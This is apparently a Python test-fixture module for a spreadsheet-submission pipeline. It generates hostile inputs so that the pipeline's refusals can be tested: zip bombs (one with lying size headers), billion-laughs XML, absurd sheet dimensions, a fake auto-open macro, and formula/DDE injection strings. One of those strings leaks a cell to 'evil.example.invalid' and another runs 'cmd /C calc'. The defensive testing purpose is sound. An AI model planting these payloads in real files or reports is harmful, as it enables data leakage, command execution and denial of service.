"""Makers of hostile files, built from the project's own templates the way an attacker or a
careless tool would change them.

The byte-level tricks already unit-tested in ``tests/forms`` (OLE headers, zip bombs, part
rewriting, CSV text) are loaded from those test modules rather than written a second time.
"""

from __future__ import annotations

import importlib.util
import io
import re
import shutil
import sys
import zipfile
from pathlib import Path
from types import ModuleType
from typing import Any

from openpyxl import load_workbook

from campaign_ops.campaign import Campaign
from campaign_ops.forms.layout import TemplateLayout
from campaign_ops.forms.spec import load_form
from campaign_ops.synthetic import write_submission

TESTS = Path(__file__).resolve().parent.parent


def _test_module(relative: str) -> ModuleType:
    """A module of another test folder, by path (tests/ folders are not packages)."""
    name = "hostile_reuse_" + relative.replace("/", "_").removesuffix(".py")
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, TESTS / relative)
        assert spec and spec.loader
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


refusals = _test_module("forms/test_refusals.py")
real_world = _test_module("forms/test_real_world_files.py")

Values = dict[str, dict[str, Any]]

# Text a unit typed into text cells of a case list: each would run as a formula (or a DDE
# command) if the consolidated report wrote it as one (OWASP CSV/formula injection).
FORMULA_TEXT = (
    '=HYPERLINK("http://evil.example.invalid/?leak="&A1,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
)


def table(campaign: Campaign, unit: str, form: str, dest: Path, **kw: Any) -> tuple[bytes, Values]:
    """A correctly filled template (``synthetic.write_submission``) as bytes and values."""
    path, values = write_submission(campaign, "r1", unit, form, dest, **kw)
    return path.read_bytes(), values


def _rewrite(data: bytes, member: str, change) -> bytes:
    """The xlsx ``data`` with one part changed (``test_real_world_files.rewrite_member``)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            part = src.read(info)
            dst.writestr(info, change(part) if info.filename == member else part, 8)
    return out.getvalue()


def zip_bomb(work: Path, megabytes: int = 80) -> bytes:
    """A ~80 KB xlsx whose sheet inflates to ``megabytes`` (``test_refusals._bomb``)."""
    return refusals._bomb(work / f"bomb-{megabytes}.xlsx", megabytes).read_bytes()


def lying_zip_bomb(work: Path) -> bytes:
    """A zip bomb whose local header and central directory both claim 1,000 bytes."""
    import struct

    path = refusals._bomb(work / "lying-bomb.xlsx", 40)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        big = next(i for i in zf.infolist() if i.filename.endswith("sheet1.xml"))
    in_directory = data.rfind(b"xl/worksheets/sheet1.xml")
    entry = data.rfind(b"PK\x01\x02", 0, in_directory)
    struct.pack_into("<I", data, entry + 24, 1000)
    struct.pack_into("<I", data, big.header_offset + 22, 1000)
    return bytes(data)


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)


def billion_laughs(valid: bytes) -> bytes:
    """A valid table whose sheet XML declares the billion-laughs entities and uses the last
    one (10⁹ × "lol", about 3 GB if a reader expanded it) in its first text cell."""

    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        assert b"<t>" in body
        return BILLION_LAUGHS + body.replace(b"<t>", b"<t>&lol9;", 1)

    return _rewrite(valid, "xl/worksheets/sheet1.xml", change)


def absurd_dimension(valid: bytes) -> bytes:
    """A valid table whose sheet claims the range A1:XFD1048576 (17 billion cells)."""

    def change(xml: bytes) -> bytes:
        out, n = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        assert n == 1
        return out

    return _rewrite(valid, "xl/worksheets/sheet1.xml", change)


def encrypted(work: Path) -> bytes:
    """What Excel saves with an opening password: OLE2 with an EncryptionInfo stream."""
    return refusals.ole_file(work / "encrypted.xlsx", "EncryptionInfo").read_bytes()


def old_xls(work: Path, tag: bytes = b"") -> bytes:
    """An Excel 97-2003 workbook: OLE2 with a Workbook stream (``tag`` makes it unique)."""
    return refusals.ole_file(work / "old.xls", "Workbook").read_bytes() + tag


def with_macros(valid: bytes) -> bytes:
    """The same table saved as .xlsm: a VBA project whose auto-open macro would write a file
    (it must never run; the bytes are inert to any reader that does not run macros)."""
    out = io.BytesIO(valid)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as zf:
        zf.writestr(
            "xl/vbaProject.bin",
            b'\xd0\xcf\x11\xe0 Sub Auto_Open(): Open "/tmp/pwned" For Output As #1: End Sub',
        )
    return out.getvalue()


def gbk_csv(campaign: Campaign, unit: str, form_id: str, values: Values) -> bytes:
    """The table as a CSV saved by Excel on Chinese Windows (GBK), filled in by ``unit``."""
    text = real_world._csv_text(form_id, values)
    return text.replace("汉滨区市场监督管理局", campaign.unit(unit).name).encode("gbk")


def cases_with_formula_text(campaign: Campaign, unit: str, dest: Path) -> tuple[bytes, Values]:
    """A correctly filled case list whose text cells hold ``FORMULA_TEXT``, typed as text
    (Excel's leading apostrophe): the unit's file is fine, the danger is in the report."""
    form = load_form("ankang-ad-cases")
    path, values = write_submission(campaign, "r1", unit, form.id, dest, seed=7)
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    lay = TemplateLayout(form)
    texts = iter(FORMULA_TEXT)
    for row_key in list(values)[:3]:
        for col_key in ("case_name", "party"):
            text = next(texts)
            cell = ws[lay.cell(row_key, col_key)]
            cell.value = text
            cell.data_type = "s"  # openpyxl would otherwise store it as a formula
            cell.quotePrefix = True
            values[row_key][col_key] = text
    wb.save(path)
    return path.read_bytes(), values


def template_of_another_campaign(work: Path) -> bytes:
    """A filled template of another campaign (房县直播) sent to the wrong drop zone."""
    from campaign_ops.campaign import get_campaign

    other = get_campaign("fangxian-2023-livestream")
    unit = other.units[0].code
    path, _ = write_submission(
        other, other.rounds[0].id, unit, other.rounds[0].forms[0], work / "other-campaign.xlsx"
    )
    return path.read_bytes()


def copy_tree(src: Path, dst: Path) -> None:
    """Copy a drop zone byte for byte (names as bytes, so GBK names survive)."""
    shutil.copytree(src, dst, copy_function=shutil.copy2)
